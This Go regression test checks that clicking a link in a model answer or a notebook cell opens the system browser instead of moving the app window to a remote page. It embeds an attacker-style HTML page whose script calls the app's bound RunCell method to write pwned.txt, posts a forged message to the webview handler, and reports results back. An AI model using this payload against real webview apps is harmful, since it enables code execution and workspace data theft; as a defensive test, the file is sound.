//go:build journey

package journey

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
)

// remotePage is a page on a local web server that plays the attacker: it
// counts its loads and reports (as image loads of /report) every call to
// the app's Go API it tries. Were the window to show it, the bindings
// would write pwned.txt into the workspace.
type remotePage struct {
	URL string

	mu      sync.Mutex
	loads   []string // the User-Agent of each load
	reports []string
}

const remoteHTML = `<!doctype html><title>remote</title><h1>A remote page</h1><script>
function report(what) { new Image().src = '/report?what=' + encodeURIComponent(what); }
report('loaded');
const code = "open('pwned.txt', 'w').write('pwned')";
try {
  window.go.desktop.Desktop.RunCell(code, '', 'notebook').then(() => report('RunCell answered'), (e) => report('RunCell refused: ' + e));
  report('called RunCell');
} catch (e) { report('no bindings: ' + e); }
try {
  window.webkit.messageHandlers.external.postMessage('C' + JSON.stringify({name: 'desktop.Desktop.RunCell', args: [code, '', 'notebook'], callbackID: 'x'}));
  report('posted a message');
} catch (e) { report('no message handler: ' + e); }
try {
  window.go.desktop.Desktop.Workspace().then((w) => report('Workspace: ' + JSON.stringify(w)));
} catch (e) { report('no Workspace: ' + e); }
</script>`

func startRemotePage(t *testing.T) *remotePage {
	t.Helper()
	p := &remotePage{}
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		p.mu.Lock()
		p.loads = append(p.loads, r.UserAgent())
		p.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, remoteHTML)
	})
	mux.HandleFunc("/report", func(w http.ResponseWriter, r *http.Request) {
		p.mu.Lock()
		p.reports = append(p.reports, r.URL.Query().Get("what"))
		p.mu.Unlock()
	})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	p.URL = "http://" + l.Addr().String() + "/page"
	return p
}

// seen returns the loads and reports so far.
func (p *remotePage) seen() (loads, reports []string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.loads...), append([]string(nil), p.reports...)
}

// browserStandIn puts an xdg-open (which the app's opener runs) first on
// a PATH, and a $BROWSER, that only record the address they are given.
// It returns the environment for the app and the file they write to.
func browserStandIn(t *testing.T) (map[string]string, string) {
	t.Helper()
	dir := t.TempDir()
	record := filepath.Join(dir, "opened.txt")
	script := "#!/bin/sh\nprintf '%s\\n' \"$1\" >>" + record + "\n"
	for _, name := range []string{"xdg-open", "browser"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return map[string]string{"PATH": dir + ":" + os.Getenv("PATH"), "BROWSER": filepath.Join(dir, "browser")}, record
}

// linkScenario writes a scenario whose answer holds a markdown link to
// url, then a second plain answer.
func linkScenario(t *testing.T, url string) string {
	t.Helper()
	text, _ := json.Marshal("Read [the report](" + url + ") first.")
	s := "name: a link in an answer\nallow_unplayed: true\nturns:\n" +
		"  - reply: [{text: " + string(text) + "}]\n" +
		"  - reply: [{text: \"Still here.\"}]\n"
	path := filepath.Join(t.TempDir(), "link.yaml")
	if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// clickLink clicks the link "the report" and waits for what the click
// did: the address handed to the browser, or the remote page loaded (then
// until the page has tried its calls); a load fails the test.
func clickLink(t *testing.T, app *App, page *remotePage, record string) {
	t.Helper()
	app.Click(Role("link", "the report"))
	app.Wait("the address handed to the browser, or the remote page loaded", func() bool {
		b, _ := os.ReadFile(record)
		loads, _ := page.seen()
		return strings.Contains(string(b), page.URL) || len(loads) > 0
	})
	if loads, _ := page.seen(); len(loads) > 0 {
		app.Wait("the remote page's calls", func() bool {
			_, reports := page.seen()
			return slices.ContainsFunc(reports, func(r string) bool { return strings.HasPrefix(r, "Workspace") || strings.HasPrefix(r, "no ") })
		})
		_, reports := page.seen()
		app.Shot("left-the-app")
		t.Fatalf("the window loaded the remote page (user agents %q), which reported %q", loads, reports)
	}
	app.Shot("clicked")
}

// clickedLinkStaysOut clicks the link "the report" and checks what a
// click must do: the address goes to the browser (the stand-in records
// it), the window still shows the app (its prompt box answers the next
// prompt), the remote page is never loaded, no call of it arrives and no
// file is written.
func clickedLinkStaysOut(t *testing.T, app *App, page *remotePage, record, ws string) {
	t.Helper()
	clickLink(t, app, page, record)
	// The app still answers: its page, not the remote one, is shown.
	app.Send("Are you there?")
	app.WaitFor(Text("Still here."))
	app.Shot("still-the-app")
	loads, reports := page.seen()
	if len(loads) > 0 {
		t.Errorf("the remote page was loaded %d times (user agents %q); want never", len(loads), loads)
	}
	if len(reports) > 0 {
		t.Errorf("the remote page ran and reported %q", reports)
	}
	if _, err := os.Stat(filepath.Join(ws, "pwned.txt")); err == nil {
		t.Error("the remote page wrote pwned.txt into the workspace")
	}
	if b, _ := os.ReadFile(record); strings.Count(string(b), "\n") != 1 {
		t.Errorf("the browser was asked %d times, want once: %q", strings.Count(string(b), "\n"), b)
	}
}

// Security review of 855fb8f: a link in a model answer, clicked, moved
// the window itself to the remote page, whose script then called the
// app's bound methods (RunCell wrote a file). The click now goes to the
// browser and the window never leaves the app.
func TestLinkInAnAnswerOpensInTheBrowserNotTheWindow(t *testing.T) {
	page := startRemotePage(t)
	env, record := browserStandIn(t)
	scenario := linkScenario(t, page.URL)
	atSizes(t, func(t *testing.T, w, h int) {
		_ = os.Remove(record)
		ws := Workspace(t, nil)
		app := Start(t, Options{Workspace: ws, Scenario: scenario, Width: w, Height: h, Env: env})
		app.WaitFor(Text("Kernel ready"))
		app.Send("Where do I start?")
		app.WaitFor(Role("link", "the report"))
		clickedLinkStaysOut(t, app, page, record, ws)
	})
}

// The same with no model at all: a markdown cell of a notebook opened
// with Open notebook holds the link.
func TestLinkInANotebookCellOpensInTheBrowserNotTheWindow(t *testing.T) {
	page := startRemotePage(t)
	env, record := browserStandIn(t)
	atSizes(t, func(t *testing.T, w, h int) {
		_ = os.Remove(record)
		ws := Workspace(t, nil)
		nb := map[string]any{
			"nbformat": 4, "nbformat_minor": 5,
			"metadata": map[string]any{},
			"cells": []any{map[string]any{
				"cell_type": "markdown", "id": "m1", "metadata": map[string]any{},
				"source": "Read [the report](" + page.URL + ") first.",
			}},
		}
		b, _ := json.Marshal(nb)
		writeFile(t, filepath.Join(ws, "remote.ipynb"), string(b))
		app := Start(t, Options{Workspace: ws, Scenario: "testdata/two-turns.yaml", Width: w, Height: h, Env: env})
		app.WaitFor(Text("Kernel ready"))
		if w == 800 {
			// What does not fit the header is in More actions.
			app.Click(Query{Role: "combo box", Name: "More actions"})
			app.Click(Query{Role: "menu item", Name: "Open notebook"})
		} else {
			app.Click(Button("Open notebook"))
		}
		app.WaitFor(Role("file chooser", ""))
		app.Click(Query{Role: "table cell", Name: "remote.ipynb", Exact: true})
		app.Click(Query{Role: "push button", Name: "Open", Exact: true})
		app.WaitFor(Role("link", "the report"))
		app.Shot("notebook-open")
		clickLink(t, app, page, record)
		loads, reports := page.seen()
		if len(loads) > 0 || len(reports) > 0 {
			t.Errorf("the remote page was loaded %d times and reported %q; want never", len(loads), reports)
		}
		// The window still shows the app: a prompt gets its answer.
		app.Send("Are you there?")
		app.WaitFor(Text("First answer."))
		loads, reports = page.seen()
		if len(loads) > 0 || len(reports) > 0 {
			t.Errorf("the remote page was loaded %d times and reported %q; want never", len(loads), reports)
		}
		if _, err := os.Stat(filepath.Join(ws, "pwned.txt")); err == nil {
			t.Error("the remote page wrote pwned.txt into the workspace")
		}
	})
}
